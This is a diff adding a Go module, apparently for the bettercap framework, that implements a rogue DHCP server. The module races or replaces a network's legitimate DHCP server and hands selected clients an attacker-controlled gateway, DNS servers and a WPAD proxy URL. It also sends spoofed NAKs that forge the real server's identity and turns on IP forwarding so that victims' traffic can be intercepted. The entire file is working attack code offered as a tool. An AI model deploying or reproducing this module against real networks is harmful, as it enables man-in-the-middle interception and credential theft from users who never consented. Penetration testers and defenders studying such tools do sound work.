@@ -0,0 +1,387 @@
+package dhcp_spoof
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/tui"
+	"github.com/malfunkt/iprange"
+)
+
+const (
+	ModeRace    = "race"
+	ModeReplace = "replace"
+)
+
+type DHCPSpoofer struct {
+	session.SessionModule
+	Handle        *pcap.Handle
+	mode          string
+	config        packets.DHCPServerConfig
+	targets       []net.HardwareAddr
+	pool          []net.IP
+	leases        map[string]*Lease
+	leasesLock    *sync.Mutex
+	waitGroup     *sync.WaitGroup
+	pktSourceChan chan gopacket.Packet
+}
+
+func NewDHCPSpoofer(s *session.Session) *DHCPSpoofer {
+	mod := &DHCPSpoofer{
+		SessionModule: session.NewSessionModule("dhcp.spoof", s),
+		Handle:        nil,
+		targets:       make([]net.HardwareAddr, 0),
+		pool:          make([]net.IP, 0),
+		leases:        make(map[string]*Lease),
+		leasesLock:    &sync.Mutex{},
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.State.Store("leases", []*Lease{})
+
+	mod.SessionModule.Requires("net.recon")
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.mode",
+		ModeRace,
+		"^(race|replace)$",
+		"In race mode the legitimate server is raced with faster answers, in replace mode clients accepting its offers are also sent a spoofed NAK so that they start over."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.targets", "", "",
+		"Comma separated list of MAC addresses or aliases of the clients to answer, if empty every client will be answered."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.pool", "", "",
+		"Addresses to assign to new clients, supports nmap style IP ranges. If empty any free address of the subnet will be used, known clients always get their current address."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.gateway", "", "",
+		"Gateway address handed out to clients, if empty the address of this interface will be used."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.dns", "", "",
+		"Comma separated list of DNS servers handed out to clients, if empty the address of this interface will be used."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.domain", "", "",
+		"Domain name handed out to clients, if empty no domain will be set."))
+
+	mod.AddParam(session.NewStringParameter("dhcp.spoof.wpad", "", "",
+		"URL of the proxy auto configuration file handed out to clients with option 252, for instance the one served by wpad.server, if empty no URL will be set."))
+
+	mod.AddParam(session.NewIntParameter("dhcp.spoof.lease_time",
+		"600",
+		"Lease time in seconds, short leases make clients come back sooner once the module is stopped."))
+
+	mod.AddHandler(session.NewModuleHandler("dhcp.spoof on", "",
+		"Start the rogue DHCP server.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dhcp.spoof off", "",
+		"Stop the rogue DHCP server.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("dhcp.spoof.leases", "",
+		"Show the leases assigned so far.",
+		func(args []string) error {
+			return mod.showLeases()
+		}))
+
+	return mod
+}
+
+func (mod DHCPSpoofer) Name() string {
+	return "dhcp.spoof"
+}
+
+func (mod DHCPSpoofer) Description() string {
+	return "Rogue DHCP server racing or replacing the legitimate one, handing out attacker controlled gateway and DNS servers to selected clients."
+}
+
+func (mod DHCPSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *DHCPSpoofer) parseIPList(param string, fallback net.IP) ([]net.IP, error) {
+	err, values := mod.ListParam(param)
+	if err != nil {
+		return nil, err
+	} else if len(values) == 0 {
+		return []net.IP{fallback}, nil
+	}
+
+	ips := make([]net.IP, 0)
+	for _, value := range values {
+		if ip := net.ParseIP(value); ip == nil || ip.To4() == nil {
+			return nil, fmt.Errorf("%s: invalid IPv4 address %s", param, value)
+		} else {
+			ips = append(ips, ip.To4())
+		}
+	}
+	return ips, nil
+}
+
+func (mod *DHCPSpoofer) Configure() error {
+	var err error
+	var targets, pool string
+	var leaseTime int
+	var gateway []net.IP
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if mod.Session.Interface.IP.To4() == nil || mod.Session.Interface.Net == nil {
+		return fmt.Errorf("the interface %s has no IPv4 address", mod.Session.Interface.Name())
+	}
+
+	if err, mod.mode = mod.StringParam("dhcp.spoof.mode"); err != nil {
+		return err
+	} else if err, targets = mod.StringParam("dhcp.spoof.targets"); err != nil {
+		return err
+	} else if err, pool = mod.StringParam("dhcp.spoof.pool"); err != nil {
+		return err
+	} else if err, leaseTime = mod.IntParam("dhcp.spoof.lease_time"); err != nil {
+		return err
+	} else if leaseTime <= 0 {
+		return fmt.Errorf("dhcp.spoof.lease_time must be greater than 0")
+	}
+
+	ourIP := mod.Session.Interface.IP.To4()
+	mod.config = packets.DHCPServerConfig{
+		ServerIP:  ourIP,
+		ServerHW:  mod.Session.Interface.HW,
+		Netmask:   ipv4Mask(mod.Session.Interface.Net),
+		LeaseTime: time.Duration(leaseTime) * time.Second,
+	}
+
+	if gateway, err = mod.parseIPList("dhcp.spoof.gateway", ourIP); err != nil {
+		return err
+	} else if mod.config.DNS, err = mod.parseIPList("dhcp.spoof.dns", ourIP); err != nil {
+		return err
+	} else if err, mod.config.Domain = mod.StringParam("dhcp.spoof.domain"); err != nil {
+		return err
+	} else if err, mod.config.WPAD = mod.StringParam("dhcp.spoof.wpad"); err != nil {
+		return err
+	} else if len(gateway) > 1 {
+		return fmt.Errorf("dhcp.spoof.gateway must be a single address")
+	}
+	mod.config.Router = gateway[0]
+
+	if _, mod.targets, err = network.ParseTargets(targets, mod.Session.Lan.Aliases()); err != nil {
+		return err
+	}
+
+	if pool == "" {
+		pool = mod.Session.Interface.CIDR()
+	}
+
+	if list, err := iprange.ParseList(pool); err != nil {
+		return fmt.Errorf("error while parsing dhcp.spoof.pool: %v", err)
+	} else {
+		mod.pool = make([]net.IP, 0)
+		for _, ip := range list.Expand() {
+			if mod.isUsable(ip) {
+				mod.pool = append(mod.pool, ip.To4())
+			}
+		}
+	}
+
+	if mod.Handle, err = network.Capture(mod.Session.Interface.Name()); err != nil {
+		return err
+	} else if err = mod.Handle.SetBPFFilter(fmt.Sprintf("udp and dst port %d", packets.DHCPServerPort)); err != nil {
+		mod.Handle.Close()
+		return err
+	}
+
+	mod.Debug("mode=%s targets=%v pool=%d addresses gateway=%s dns=%v", mod.mode, mod.targets, len(mod.pool), mod.config.Router, mod.config.DNS)
+
+	if !mod.Session.Firewall.IsForwardingEnabled() {
+		mod.Info("enabling forwarding")
+		mod.Session.Firewall.EnableForwarding(true)
+	}
+
+	return nil
+}
+
+func (mod *DHCPSpoofer) isTarget(mac net.HardwareAddr) bool {
+	if len(mod.targets) == 0 {
+		return true
+	}
+
+	for _, hw := range mod.targets {
+		if bytes.Equal(hw, mac) {
+			return true
+		}
+	}
+	return false
+}
+
+// true if ip can be assigned to a client, it must belong to our subnet
+// and must be neither us, the gateway nor the network or broadcast address.
+func (mod *DHCPSpoofer) isUsable(ip net.IP) bool {
+	ipNet := mod.Session.Interface.Net
+	if ip = ip.To4(); ip == nil || !ipNet.Contains(ip) {
+		return false
+	} else if mod.Session.Skip(ip) || ip.Equal(mod.config.Router) {
+		return false
+	}
+
+	netIP := ipNet.IP.To4()
+	mask := ipv4Mask(ipNet)
+	broadcast := make(net.IP, net.IPv4len)
+	for i := range broadcast {
+		broadcast[i] = netIP[i] | ^mask[i]
+	}
+	return !ip.Equal(netIP) && !ip.Equal(broadcast)
+}
+
+func ipv4Mask(ipNet *net.IPNet) net.IPMask {
+	return ipNet.Mask[len(ipNet.Mask)-net.IPv4len:]
+}
+
+func (mod *DHCPSpoofer) reply(req *layers.DHCPv4, msgType layers.DHCPMsgType, ip net.IP, config packets.DHCPServerConfig) {
+	if err, raw := packets.NewDHCPReply(req, msgType, ip, config); err != nil {
+		mod.Error("error creating dhcp %s: %v", msgType, err)
+	} else if err = mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("error sending dhcp %s: %v", msgType, err)
+	}
+}
+
+func (mod *DHCPSpoofer) onDiscover(req *layers.DHCPv4, hostname string) {
+	mac := req.ClientHWAddr
+	if ip := mod.leaseFor(mac, packets.DHCPRequestedIP(req)); ip == nil {
+		mod.Warning("no free address left in the pool for %s", mac)
+	} else {
+		mod.Info("offering %s to %s %s", tui.Bold(ip.String()), mac, tui.Dim(hostname))
+		mod.reply(req, layers.DHCPMsgTypeOffer, ip, mod.config)
+	}
+}
+
+func (mod *DHCPSpoofer) onRequest(req *layers.DHCPv4, hostname string) {
+	mac := req.ClientHWAddr
+	requested := packets.DHCPRequestedIP(req)
+
+	// the client accepted the offer of another server
+	if serverID := packets.DHCPServerID(req); serverID != nil && !serverID.Equal(mod.config.ServerIP) {
+		if mod.mode == ModeReplace {
+			mod.Info("%s accepted the offer of %s, sending spoofed NAK", mac, serverID)
+			config := mod.config
+			config.ServerIP = serverID
+			mod.reply(req, layers.DHCPMsgTypeNak, nil, config)
+		} else {
+			mod.Debug("%s accepted the offer of %s", mac, serverID)
+		}
+		return
+	}
+
+	// either our offer was accepted or the client is renewing or rebooting,
+	// which we can take over if the address it wants is available
+	if requested == nil || !mod.isAvailable(requested, mac) {
+		if mod.mode == ModeReplace {
+			mod.Info("%s requested %v which can't be assigned, sending NAK", mac, requested)
+			mod.reply(req, layers.DHCPMsgTypeNak, nil, mod.config)
+		} else {
+			mod.Debug("%s requested %v which can't be assigned", mac, requested)
+		}
+		return
+	}
+
+	lease := mod.assign(mac, requested, hostname)
+	mod.reply(req, layers.DHCPMsgTypeAck, requested, mod.config)
+
+	mod.Info("%s assigned to %s %s", tui.Bold(requested.String()), mac, tui.Dim(hostname))
+	mod.Session.Events.Add("dhcp.spoof.lease", lease)
+}
+
+// clients with a static address send INFORM messages, mostly to ask for
+// the WPAD URL.
+func (mod *DHCPSpoofer) onInform(req *layers.DHCPv4, hostname string) {
+	if ip := req.ClientIP.To4(); ip == nil || ip.Equal(net.IPv4zero) {
+		return
+	}
+
+	if err, raw := packets.NewDHCPInformReply(req, mod.config); err != nil {
+		mod.Error("error creating dhcp %s: %v", layers.DHCPMsgTypeAck, err)
+	} else if err = mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("error sending dhcp %s: %v", layers.DHCPMsgTypeAck, err)
+	} else if mod.config.WPAD != "" {
+		mod.Info("sent wpad url %s to %s %s", tui.Bold(mod.config.WPAD), req.ClientIP, tui.Dim(hostname))
+	} else {
+		mod.Debug("answered inform from %s %s", req.ClientIP, hostname)
+	}
+}
+
+func (mod *DHCPSpoofer) onPacket(pkt gopacket.Packet) {
+	ldhcp := pkt.Layer(layers.LayerTypeDHCPv4)
+	if ldhcp == nil {
+		return
+	}
+
+	req := ldhcp.(*layers.DHCPv4)
+	mac := req.ClientHWAddr
+	if req.Operation != layers.DHCPOpRequest || len(mac) != 6 {
+		return
+	} else if bytes.Equal(mac, mod.Session.Interface.HW) {
+		return
+	} else if !mod.isTarget(mac) {
+		mod.Debug("skipping %s, not a target", mac)
+		return
+	}
+
+	hostname := packets.DHCPHostname(req)
+	switch msgType := packets.DHCPMessageType(req); msgType {
+	case layers.DHCPMsgTypeDiscover:
+		mod.onDiscover(req, hostname)
+
+	case layers.DHCPMsgTypeRequest:
+		mod.onRequest(req, hostname)
+
+	case layers.DHCPMsgTypeInform:
+		mod.onInform(req, hostname)
+
+	case layers.DHCPMsgTypeRelease, layers.DHCPMsgTypeDecline:
+		if lease := mod.release(mac); lease != nil {
+			mod.Info("%s released %s (%s)", mac, lease.IP, msgType)
+		}
+	}
+}
+
+func (mod *DHCPSpoofer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("rogue dhcp server started in %s mode, gateway=%s dns=%v", mod.mode, mod.config.Router, mod.config.DNS)
+
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
+		mod.pktSourceChan = src.Packets()
+		for packet := range mod.pktSourceChan {
+			if !mod.Running() {
+				break
+			}
+
+			mod.onPacket(packet)
+		}
+	})
+}
+
+func (mod *DHCPSpoofer) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.pktSourceChan <- nil
+		mod.Handle.Close()
+		mod.waitGroup.Wait()
+	})
+}